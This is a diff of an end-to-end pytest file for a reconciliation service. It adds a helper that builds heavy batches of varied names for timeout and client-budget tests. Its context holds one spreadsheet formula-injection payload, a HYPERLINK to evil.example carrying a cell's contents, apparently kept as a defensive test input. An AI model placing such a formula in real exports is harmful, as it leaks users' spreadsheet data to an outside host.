@@ -27,6 +27,16 @@ pytestmark = [pytest.mark.e2e]
 HEALTH_LIMIT = 1.0
 PERSON = "person/svetlana-gorokhova"
 LONG_NAME = ("Svetlana Gorokhova Tatyana Polejayeva Mariya " * 11)[:500]
+
+
+def heavy_batch(n: int = 500) -> str:
+    """A batch of `n` long names of common words in differing orders: ~4 s of matching on the mini data
+    ("Library", "National", "Baku" each reach many entities; one name repeated is much cheaper)."""
+    words = "Svetlana Gorokhova Tatyana Polejayeva Mariya Aliyev Mammadov Baku Library National".split()
+    return json.dumps({f"q{i}": {"query": " ".join(words[(i * 7 + k * k) % len(words)] for k in range(60))[:500]}
+                       for i in range(n)})
+
+
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
@@ -161,8 +171,8 @@ def test_reconcile_deep_nesting_is_a_400(server: LiveServer) -> None:
 
 
 def test_reconcile_batch_stops_at_its_time_limit(server: LiveServer) -> None:
-    """A full batch of the longest names (~3 s of matching on this data) stops at reconcile_timeout (1 s here): 503."""
-    queries = json.dumps({f"q{i}": {"query": LONG_NAME} for i in range(500)})
+    """A full batch of long, all different names (~4 s of matching on this data) stops at reconcile_timeout (1 s here): 503."""
+    queries = heavy_batch()
     with health_watch(server.url):
         started = time.monotonic()
         status, headers, body = call(server.url + "/reconcile", form(queries=queries))
@@ -324,7 +334,7 @@ def test_reconcile_time_counts_against_the_client_budget(tmp_path: Path) -> None
         root, free_port(), extra_env={"VISITGRAPH_CLIENT_BUDGET": "1", "VISITGRAPH_RECONCILE_TIMEOUT": "1"}
     )
     try:
-        queries = json.dumps({f"q{i}": {"query": LONG_NAME} for i in range(500)})
+        queries = heavy_batch()
         statuses = []
         with health_watch(live.url):
             for _ in range(6):
